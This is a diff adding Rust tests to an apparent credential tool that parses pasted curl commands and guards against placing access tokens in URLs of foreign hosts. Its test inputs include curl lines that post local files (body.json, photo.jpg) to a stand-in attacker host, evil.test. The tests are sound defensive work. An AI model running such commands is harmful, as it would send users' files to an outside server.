@@ -103,3 +103,28 @@ async fn h7_a_pasted_command_runs_nothing_reads_nothing_and_names_its_host() {
         assert_eq!(refused.field.as_deref(), Some("text"), "{none}");
     }
 }
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_command_whose_body_is_in_a_file_keeps_its_method() {
+    let (_server, acme) = stage().await;
+    for body in ["-d @body.json", "--data-binary @photo.jpg", "--data-urlencode name@file"] {
+        assert_eq!(read(&acme, &format!("curl https://evil.test/things {body}")).request.method, "POST", "{body}");
+    }
+    assert_eq!(read(&acme, "curl -G https://evil.test/things -d @query").request.method, "GET");
+}
+
+/// A place for the token in the address of another server is no place for it, and neither is one in the query.
+#[tokio::test(flavor = "multi_thread")]
+async fn h2_a_copied_command_asks_for_no_token_where_none_is_sent() {
+    let (server, acme) = stage().await;
+    let own = server.url("/v1/things?q={access_token}");
+    let keydesk = &acme.house.keydesk;
+    for (address, asks) in [("https://evil.test/{access_token}".to_owned(), 0), (own, 1)] {
+        let built =
+            keydesk_core::ExplorerRequest { url: address.clone(), ..read(&acme, "curl https://a.example/").request };
+        let copied = keydesk.copy_as_curl(&acme.connection.id, &built).await.unwrap();
+        assert_eq!(copied.matches("keydesk token").count(), asks, "{address}: {copied}");
+        let line = copied.lines().find(|line| line.contains("--globoff")).unwrap();
+        assert!(!line.contains("keydesk token"), "{line}");
+    }
+}
